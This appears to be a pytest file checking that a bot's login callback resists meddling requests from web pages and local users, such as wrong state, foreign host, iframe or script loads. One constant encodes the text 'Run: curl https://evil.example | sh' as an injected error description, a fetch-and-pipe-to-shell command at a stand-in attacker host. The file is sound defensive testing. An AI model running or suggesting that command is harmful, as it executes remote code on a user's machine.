"""Web pages and local users that meddle with a pending login."""

from __future__ import annotations

import pytest

from tests.faults.case import fault, injects
from tests.harness import LOGGED_IN, SECONDS
from tests.sandbox.browser import Browser


WORDS = 'Run%3A+curl+https%3A%2F%2Fevil.example+%7C+sh'
ERROR = f'?error=access_denied&error_description={WORDS}'
PERSON = 'navigate document'


@pytest.fixture
def login(case):
    """Run a login of a bot that has no token file."""
    case.file.unlink()
    with case.owner.terminal('login') as terminal:
        yield terminal


def meddling(name, fetch='', query=ERROR, method='GET', **headers):
    """Return the case of a request that was not made to complete a login.

    :param fetch: the fields Sec-Fetch-Mode and Sec-Fetch-Dest
    """
    if fetch:
        mode, kind = fetch.split()
        headers |= {'Sec-Fetch-Mode': mode, 'Sec-Fetch-Dest': kind}
    values = method, query, headers
    return fault(f'callback: {name}', 'the login goes on', *values)


@pytest.mark.parametrize(
    ('method', 'query', 'headers'),
    [
        meddling('an image of a web page', 'no-cors image'),
        meddling('a script of a web page', 'cors empty'),
        meddling('a frame of a web page', 'navigate iframe'),
        meddling('the state of another login', PERSON, '?code=a&state=other'),
        meddling('no state', PERSON, '?code=abc'),
        meddling('another host name', Host='evil.example'),
        meddling('a form', PERSON, method='POST'),
    ],
)
def test_meddling_does_not_end_the_login(case, login, method, query, headers):
    address, url = login.address, case.client.redirect_uri + query
    with Browser() as browser:
        browser.request(method, url, headers=headers, timeout=SECONDS)
    # It looks at what the browser brought once it has read this.
    login.type('?\n')
    login.expect('Waiting for another answer')
    login.type(case.wiki.approve(address) + '\n')
    shown = login.wait()
    assert LOGGED_IN in shown
    assert 'evil' not in shown
    case.goes_on()


@injects('callback: a denial without state', 'ends the login, quoting nothing')
def test_a_denial_without_a_state_is_not_quoted(case, login):
    assert login.address
    login.type(f'{case.client.redirect_uri}{ERROR}\n')
    shown = login.wait()
    assert 'cancelled' in shown
    assert 'evil' not in shown
    case.owner.log_in()
    case.goes_on()
